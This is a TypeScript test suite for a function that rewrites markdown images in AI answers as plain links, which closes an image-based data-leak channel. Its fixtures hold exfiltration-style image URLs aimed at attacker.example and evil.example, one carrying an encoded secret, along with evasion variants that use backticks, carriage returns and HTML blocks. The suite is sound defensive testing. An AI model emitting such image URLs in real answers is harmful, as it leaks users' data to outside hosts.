import { strict as assert } from 'node:assert';
import { describe, it } from 'node:test';
import MarkdownIt from 'markdown-it';
import { ImageLinks, imagesAsLinks } from '../../../src/shared/imageLinks';

const md = new MarkdownIt();
const leak = '![도표](https://attacker.example/p.png?c=const%20secret%3D1)';

describe('images in answers shown outside the panel become links', () => {
  it('renders no image, only a link, for inline, reference and nested images', () => {
    const answer = `설명입니다. ${leak}\n\n![ref][r]\n\n[![badge](https://x.example/b.svg)](https://x.example)\n\n[r]: https://attacker.example/r.png`;
    const html = md.render(imagesAsLinks(answer));
    assert.doesNotMatch(html, /<img/);
    assert.match(html, /<a href="https:\/\/attacker\.example\/p\.png\?c=const%20secret%3D1">도표<\/a>/);
    assert.match(md.render(answer), /<img/, 'the same answer rendered as it came has images');
  });

  it('leaves fenced code as written', () => {
    const answer = [
      '```js',
      'if (!a[0]) return ![1];',
      '```',
      '',
      'Use `![x](y)` for images, ~not! [this]~.',
      '',
      '~~~',
      '![in](tilde.png)',
      '~~~',
      'after !',
    ].join('\n');
    const safe = imagesAsLinks(answer);
    assert.ok(safe.includes('if (!a[0]) return ![1];'));
    assert.ok(safe.includes('`\\![x](y)`'), 'a code span gets the backslash: markdown may not take it for one');
    assert.ok(safe.includes('![in](tilde.png)'));
    assert.ok(safe.endsWith('after !'));
    assert.doesNotMatch(md.render(safe), /<img/);
  });

  it('closes what an attacker can shape around an image: escapes, stray backticks, carriage returns, HTML blocks', () => {
    for (const answer of [
      '\\![x](https://evil.example/?d=1)',
      '\\\\![x](https://evil.example/?d=2)',
      '` ![x](https://evil.example/?d=3)',
      '```\n```\r![x](https://evil.example/?d=4)',
      '```\r\n```\r\n![x](https://evil.example/?d=5)',
      '<div>\n```\n\n![x](https://evil.example/?d=6)',
      '<div>\n~~~\n\nok\n\n![x](https://evil.example/?d=7)',
    ]) {
      assert.doesNotMatch(md.render(imagesAsLinks(answer)), /<img/, JSON.stringify(answer));
    }
    // An escaped ! stays a link as written, without a second backslash.
    assert.equal(imagesAsLinks('\\![x](u)'), '\\![x](u)');
  });

  it('gives the same text for any cut of a stream into pieces', () => {
    const answer = `앞 ${leak} 뒤\n\`\`\`\n![코드](a.png)\n\`\`\`\n끝!![x](y)!`;
    const whole = imagesAsLinks(answer);
    for (let size = 1; size <= 7; size++) {
      const links = new ImageLinks();
      let out = '';
      for (let i = 0; i < answer.length; i += size) out += links.push(answer.slice(i, i + size));
      out += links.end();
      assert.equal(out, whole, `pieces of ${size}`);
    }
    assert.doesNotMatch(md.render(whole), /<img/);
  });
});
